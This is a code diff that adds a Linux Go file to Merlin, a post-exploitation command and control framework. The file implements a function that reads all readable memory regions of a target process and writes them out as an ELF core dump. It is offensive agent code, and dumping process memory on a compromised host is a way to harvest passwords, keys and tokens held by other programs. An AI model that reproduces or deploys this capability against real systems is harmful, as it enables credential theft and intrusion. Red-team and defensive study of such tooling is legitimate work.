@@ -0,0 +1,135 @@
+//go:build linux
+// +build linux
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"io"
+	"os"
+	"runtime"
+	"strings"
+)
+
+// ELF constants used to write a core file
+const (
+	elfHeaderSize  = 64
+	elfPhdrSize    = 56
+	elfTypeCore    = 4
+	elfProgramLoad = 1
+)
+
+// elfMachines maps the agent's architecture to its ELF machine type
+var elfMachines = map[string]uint16{"386": 3, "amd64": 62, "arm": 40, "arm64": 183, "mips": 8, "mipsle": 8, "mips64": 8, "mips64le": 8, "ppc64": 21, "ppc64le": 21, "riscv64": 243, "s390x": 22}
+
+// dumpProcess writes an ELF core file with a PT_LOAD segment for each of the process's readable memory mappings to w
+// and returns the name of the dump and how many bytes it is. Pages that can't be read are written as zeros
+func dumpProcess(pid int, w io.Writer) (name string, size int64, note string, err error) {
+	mem, err := openProcessMemory(pid)
+	if err != nil {
+		return "", 0, "", err
+	}
+	defer mem.Close()
+	regions, err := mem.Regions()
+	if err != nil {
+		return "", 0, "", fmt.Errorf("there was an error listing the memory regions: %s", err)
+	}
+	if len(regions) >= 0xffff {
+		return "", 0, "", fmt.Errorf("the process has %d memory regions, more than an ELF core file holds", len(regions))
+	}
+	comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
+	name = fmt.Sprintf("%s.%d.core.gz", strings.TrimSpace(string(comm)), pid)
+
+	var header bytes.Buffer
+	ident := []byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0}
+	if nativeEndian.Uint16([]byte{0, 1}) == 1 {
+		// Big endian
+		ident[5] = 2
+	}
+	header.Write(ident)
+	put := func(v interface{}) {
+		switch v := v.(type) {
+		case uint16:
+			header.Write(nativeEndian.AppendUint16(nil, v))
+		case uint32:
+			header.Write(nativeEndian.AppendUint32(nil, v))
+		case uint64:
+			header.Write(nativeEndian.AppendUint64(nil, v))
+		}
+	}
+	put(uint16(elfTypeCore))
+	put(elfMachines[runtime.GOARCH])
+	put(uint32(1))             // e_version
+	put(uint64(0))             // e_entry
+	put(uint64(elfHeaderSize)) // e_phoff
+	put(uint64(0))             // e_shoff
+	put(uint32(0))             // e_flags
+	put(uint16(elfHeaderSize)) // e_ehsize
+	put(uint16(elfPhdrSize))   // e_phentsize
+	put(uint16(len(regions)))  // e_phnum
+	put(uint16(0))             // e_shentsize
+	put(uint16(0))             // e_shnum
+	put(uint16(0))             // e_shstrndx
+
+	offset := uint64(elfHeaderSize + elfPhdrSize*len(regions))
+	for _, region := range regions {
+		var flags uint32
+		for i, perm := range []byte{'r', 'w', 'x'} {
+			if strings.IndexByte(region.Perms, perm) >= 0 {
+				flags |= 4 >> i
+			}
+		}
+		length := region.End - region.Start
+		put(uint32(elfProgramLoad))
+		put(flags)
+		put(offset)       // p_offset
+		put(region.Start) // p_vaddr
+		put(uint64(0))    // p_paddr
+		put(length)       // p_filesz
+		put(length)       // p_memsz
+		put(uint64(1))    // p_align
+		offset += length
+	}
+	if _, err = w.Write(header.Bytes()); err != nil {
+		return "", 0, "", err
+	}
+	size = int64(header.Len())
+
+	buf := make([]byte, memorySearchChunk)
+	for _, region := range regions {
+		for address := region.Start; address < region.End; address += uint64(len(buf)) {
+			part := buf
+			if remaining := region.End - address; remaining < uint64(len(part)) {
+				part = part[:remaining]
+			}
+			n, _ := mem.ReadAt(part, address)
+			for i := n; i < len(part); i++ {
+				part[i] = 0
+			}
+			if _, err = w.Write(part); err != nil {
+				return "", 0, "", err
+			}
+			size += int64(len(part))
+		}
+	}
+	return name, size, "", nil
+}